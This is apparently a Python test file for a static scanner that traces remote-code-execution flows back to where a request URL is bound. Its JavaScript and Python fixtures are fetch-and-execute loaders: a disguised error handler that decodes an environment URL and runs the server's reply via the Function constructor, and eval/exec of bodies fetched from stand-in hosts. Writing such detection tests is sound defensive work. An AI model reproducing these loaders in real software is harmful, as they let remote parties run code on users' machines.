"""A request whose URL is a local name gets a trace step at that name's binding.

The endpoint inventory records a host where its URL is bound (a `.env` value decoded on that
line, a constant, an object literal); ``link_hosts`` matches endpoints to findings by trace
place, so the step "request URL from <name>" is what names the host in the finding.
"""

from __future__ import annotations

from pathlib import Path

from inspector.model import TraceStep
from inspector.static import ScanOptions, scan
from tests.static.flow._scan import rce
from tests.static.flow._scan import scan as flow_scan

EXAMPLES = Path(__file__).resolve().parents[3] / "examples"

API_DEBUG_LURE = """
const createHandler = (errCode) => {
  const handler = new Function.constructor('require', errCode);
  return handler;
};

async function reportError(err) {
  const endpoint = atob(process.env.ERROR_REPORT_API || '');
  try {
    const response = await fetch(endpoint, { method: 'POST' });
    const result = await response.json();
    createHandler(result.cookie)(require);
  } catch (reportFailure) {
    console.error(reportFailure.message);
  }
}
"""


def _steps(root: Path, files: dict[str, str]) -> list[TraceStep]:
    (finding,) = rce(flow_scan(root, files))
    return list(finding.trace)


def test_identifier_url_adds_its_binding_right_after_the_source(tmp_path: Path) -> None:
    steps = _steps(tmp_path, {"src/errorHandler.js": API_DEBUG_LURE})
    assert steps[0].note == "source: fetch(...) response"
    assert (steps[0].line, steps[1].path, steps[1].line, steps[1].column, steps[1].note) == (
        9,
        "src/errorHandler.js",
        7,
        9,
        "request URL from endpoint",
    )


def test_member_of_a_local_object_literal_points_at_its_key(tmp_path: Path) -> None:
    code = """
    const axios = require('axios');
    const config = {
      retries: 2,
      url: process.env.CONFIG_URL,
    };
    axios.get(config.url).then((res) => eval(res.data));
    """
    steps = _steps(tmp_path, {"loader.js": code})
    assert [(s.line, s.note) for s in steps[:2]] == [
        (6, "source: axios.get(...) response"),
        (4, "request URL from config.url"),
    ]


def test_python_assignment_of_the_url_is_a_step(tmp_path: Path) -> None:
    code = """
    import os
    import requests

    def load():
        url = os.environ["LOADER_URL"]
        body = requests.get(url).text
        exec(body)
    """
    steps = _steps(tmp_path, {"loader.py": code})
    assert [(s.line, s.note) for s in steps[:2]] == [
        (6, "source: requests.get(...) response"),
        (5, "request URL from url"),
    ]


def test_literal_url_adds_no_step(tmp_path: Path) -> None:
    code = """
    fetch('https://loader.invalid/payload')
      .then((res) => res.text())
      .then((text) => eval(text));
    """
    steps = _steps(tmp_path, {"loader.js": code})
    assert steps[0].note == "source: fetch(...) response"
    assert not any(s.note.startswith("request URL from") for s in steps)


def test_parameter_url_is_not_chased(tmp_path: Path) -> None:
    code = """
    async function load(target) {
      const res = await fetch(target);
      eval(await res.text());
    }
    """
    steps = _steps(tmp_path, {"loader.js": code})
    assert not any(s.note.startswith("request URL from") for s in steps)


def test_api_debug_lure_finding_names_the_env_host() -> None:
    result = scan(EXAMPLES / "malicious" / "api-debug-lure", ScanOptions(jobs=1, semgrep=False))
    (finding,) = [
        f
        for f in result.findings
        if f.rule == "flow.js.remote-code-execution" and f.path == "src/utils/errorHandler.js"
    ]
    assert "ip-check-api-7d2c.vercel.test" in finding.hosts
